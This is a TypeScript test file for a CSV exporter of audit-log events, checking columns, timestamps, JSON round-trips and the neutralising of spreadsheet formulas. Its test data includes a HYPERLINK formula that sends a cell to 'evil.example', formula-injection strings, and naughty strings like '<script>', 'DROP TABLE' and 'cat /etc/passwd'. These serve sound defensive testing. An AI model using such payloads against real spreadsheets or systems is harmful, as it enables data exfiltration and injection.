import { parse as csvParse } from "csv-parse/sync"
import Papa from "papaparse"
import { describe, expect, it } from "vitest"
import { assertInstant } from "@/lib/audit/time/instant"
import { csvHeader, csvRow, storedCsvRow } from "./csv"
import type { AuditEvent } from "./event/event"

const apps = new Map([["app-1", { slug: "pay", name: "Payments" }]])

const plain: AuditEvent = {
  id: "018f3a00-0000-7000-8000-000000000001",
  organizationId: "018f3a00-0000-7000-8000-0000000000ff",
  appId: "app-1",
  occurredAt: assertInstant("2025-10-21T09:49:08.908123Z"),
  occurredAtAssumed: "none",
  receivedAt: assertInstant("2025-10-21T09:49:09.000001Z"),
  operation: "workflow.create",
  operationCode: 400,
  family: "workflow",
  description: "Workflows created",
  actor: { type: "user", id: "ada" },
  targets: [],
  status: "success",
  details: [],
  changes: [],
  metadata: {},
  index: 0,
  leafHash: "abc",
}

/** The rows as two independent readers see them; they must agree. */
function readBack(...events: readonly AuditEvent[]): readonly Record<string, string>[] {
  const text = csvHeader() + events.map(event => csvRow(event, apps)).join("")
  const rows: string[][] = csvParse(text, { bom: true, record_delimiter: "\r\n" })
  const others = Papa.parse<string[]>(text, { newline: "\r\n", delimiter: "," })
  expect(others.errors).toEqual([])
  expect(others.data.slice(0, -1)).toEqual(rows)
  // A final line end starts no empty row.
  expect(others.data.at(-1)).toEqual([""])
  return records(rows)
}

function rowsOf(text: string): readonly Record<string, string>[] {
  return records(csvParse(text, { bom: true, record_delimiter: "\r\n" }))
}

function records([header = [], ...rows]: readonly string[][]): readonly Record<string, string>[] {
  return rows.map(record => Object.fromEntries(header.map((name, at) => [name, record[at] ?? ""])))
}

function described(description: string): AuditEvent {
  return { ...plain, description }
}

describe("the spreadsheet copy", () => {
  it("has as many cells in every row as in its header, with times to the microsecond", () => {
    const [row = {}] = readBack(plain)
    expect(row).toMatchObject({
      "When (UTC)": "2025-10-21T09:49:08.908123Z",
      "Received (UTC)": "2025-10-21T09:49:09.000001Z",
      Actor: "ada",
      App: "Payments",
      "App slug": "pay",
      "Operation code": "400",
      Index: "0",
      "When assumed": "",
      "Source IP": "",
      Targets: "",
    })
  })

  it("holds every part of an event", () => {
    const full: AuditEvent = {
      ...plain,
      environment: "production",
      sourceId: "s-1",
      occurredAtText: "21/Oct/2025",
      occurredAtAssumed: "zone",
      actor: {
        type: "staff",
        id: "eve",
        name: "Eve",
        email: "eve@example.com",
        role: "support",
        attributes: { team: "blue" },
        sessionHash: "00ff",
        onBehalfOf: { type: "user", id: "ada", name: "Ada", email: "ada@example.com" },
        credential: { type: "api_key", id: "k1", name: "laptop" },
      },
      targets: [
        { type: "workflow", id: "w1", name: "Invoices" },
        { type: "app", id: "a1" },
      ],
      statusCode: "E7",
      statusMessage: "no",
      source: { ip: "203.0.113.7", ipText: "203.0.113.007", peerIp: "10.0.0.1", userAgent: "curl" },
      requestId: "r1",
      traceId: "t1",
      http: {
        method: "POST",
        path: "/p",
        route: "/r",
        status: 201,
        durationMs: 11,
        requestBytes: 112,
        responseBytes: 332,
      },
      details: ["one", "two"],
      changes: [{ path: "/name", before: null, after: { "a,b": [1] } }],
      metadata: { k: "v" },
      rawFormat: "cloudtrail",
      rawWithheld: "policy",
    }
    const [row = {}] = readBack(full)
    const empty = Object.entries(row).filter(([, cell]) => cell === "")
    expect(empty).toEqual([])
    expect(row.Targets).toBe("Invoices (workflow:w1); app:a1")
    expect(JSON.parse(row["Targets (JSON)"] ?? "")).toEqual(full.targets)
    expect(JSON.parse(row["After (JSON)"] ?? "")).toEqual([{ path: "/name", after: { "a,b": [1] } }])
    expect(JSON.parse(row["Before (JSON)"] ?? "")).toEqual([{ path: "/name", before: null }])
  })

  it.each(["=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠"])(
    "runs no formula that begins with %j",
    start => {
      const formula = `${start}HYPERLINK("http://evil.example/?"&A1,"click")`
      const [row = {}] = readBack(described(formula))
      expect(row.Description).toBe(`'${formula}`)
    },
  )

  it("guards every cell that a producer can fill", () => {
    const [row = {}] = readBack({
      ...plain,
      actor: { type: "user", id: "=1+1", name: "@SUM(A1)" },
      requestId: "-2+3",
    })
    expect(row).toMatchObject({ Actor: "'@SUM(A1)", "Actor id": "'=1+1", "Request id": "'-2+3" })
  })

  const separators = [",", ";", "\t", "\n", "\r\n", "\r"]
  const starts = ["=", "+", "-", "@", "\t=", "\0", "＝", "＋", "－", "＠"]
  const hostile = separators.flatMap(separator =>
    starts.flatMap(start => [
      `a${separator}${start}1+1`,
      `a${separator}"${start}1+1"`,
      `a${separator}""${start}1+1`,
      `"${separator}${start}1+1`,
      `a"${separator}${separator}${start}1+1`,
      `a${separator}b${separator}${start}1+1;`,
    ]),
  )

  it.each([
    [",", "commas"],
    [";", "semicolons"],
    ["\t", "tabs"],
  ])("starts no formula anywhere when it is split at %j (%s)", delimiter => {
    const events = hostile.map(
      (text): AuditEvent => ({
        ...plain,
        description: text,
        actor: { type: "user", id: text, attributes: { text } },
        targets: [{ type: "t", id: text, name: text }],
        details: [text],
        changes: [{ path: "/a", before: text, after: { [text]: [-1, text] } }],
        metadata: { [text]: text, numbers: [1, -2] },
      }),
    )
    const text = csvHeader() + events.map(event => csvRow(event, apps)).join("")
    const fields = [
      ...csvParse(text, { bom: true, delimiter, relax_quotes: true, relax_column_count: true }).flat(),
      ...Papa.parse<string[]>(text, { delimiter }).data.flat(),
      // Ignores quotes, like the simplest of readers.
      ...text.split(/\r\n|\n|\r/).flatMap(line => (delimiter === "," ? [] : line.split(delimiter))),
    ]
    expect(fields.length).toBeGreaterThan(events.length * 10)
    expect(fields.filter(field => /^[=+\-@\t\r\n\0＝＋－＠]/.test(field))).toEqual([])
  })

  it("keeps JSON what it was", () => {
    const metadata = { "a;=1": ["b;-1", -1, "c;＝"], d: "=;@" }
    const [row = {}] = readBack({ ...plain, metadata })
    expect(JSON.parse(row["Metadata (JSON)"] ?? "")).toEqual(metadata)
  })

  it("is the same for an event as it is stored, whatever stands between its members", () => {
    const text = 'quote " backslash \\ both \\" end \\\\'
    const event: AuditEvent = {
      ...plain,
      description: text,
      actor: { type: "user", id: text, onBehalfOf: { type: "user", id: "x" }, attributes: { id: text } },
      metadata: { description: "not this one", actor: { id: "nor this" } },
      http: { status: 0, path: text },
    }
    const { index, leafHash, ...content } = event
    const stored = { body: JSON.stringify(content, null, 2), index, leafHash }
    const [spaced = {}] = rowsOf(csvHeader() + storedCsvRow(stored, apps))
    const [row = {}] = readBack(event)
    const json = Object.keys(row).filter(name => name.includes("(JSON)") || name.endsWith("attributes"))
    for (const name of json)
      expect(JSON.parse(spaced[name] || "null")).toEqual(JSON.parse(row[name] || "null"))
    expect({ ...spaced, ...Object.fromEntries(json.map(name => [name, ""])) }).toEqual({
      ...row,
      ...Object.fromEntries(json.map(name => [name, ""])),
    })
    expect(row).toMatchObject({
      Description: text,
      "Actor id": text,
      "On behalf of id": "x",
      "HTTP status": "0",
    })
  })

  // Lines of the Big List of Naughty Strings (Max Woolf, MIT licence) and worse.
  it.each([
    '"',
    '""',
    '","',
    "a,b",
    "line\nbreak",
    "line\r\nbreak",
    "carriage\rreturn",
    "\u2028\u2029\u0085",
    " spaced ",
    "'quoted",
    "１２３",
    "田中さんにあげて下さい",
    "👾 🙇 💁 🙅",
    "\u202Etest\u202E \u2066test\u2067",
    "\uFEFF",
    "Ｔｈｅ ｑｕｉｃｋ ʇǝɯɐ",
    "<script>alert(123)</script>",
    "1;DROP TABLE users",
    "$HOME",
    '"; cat /etc/passwd',
    "¸˛Ç◊ı˜Â¯˘¿",
    "0xffffffffffffffff",
  ])("keeps %j as it is", text => {
    const [row = {}, next = {}] = readBack(described(text), plain)
    expect(row.Description).toBe(text)
    expect(next.Description).toBe(plain.description)
  })

  it("names an app that nobody knows any more by its id", () => {
    const [row = {}] = readBack({ ...plain, appId: "gone" })
    expect(row).toMatchObject({ App: "", "App id": "gone" })
  })

  it("begins with a byte order mark, once", () => {
    expect(csvHeader().startsWith("\uFEFFWhen (UTC),")).toBe(true)
    expect(csvRow(plain, apps)).not.toContain("\uFEFF")
  })
})

it.each(["أحمد", "Ali أحمد (3)", "invoice\u202efdp.exe", "a\u0001b\u200bc"])(
  "a name is copied letter by letter, in whatever direction it is read: %j",
  name => {
    const named: AuditEvent = { ...plain, actor: { type: "user", id: "u1", name } }
    const [row] = csvParse(`${csvHeader()}${csvRow(named, apps)}`, { columns: true, bom: true })
    expect(Object.values(row ?? {})).toContain(name)
  },
)
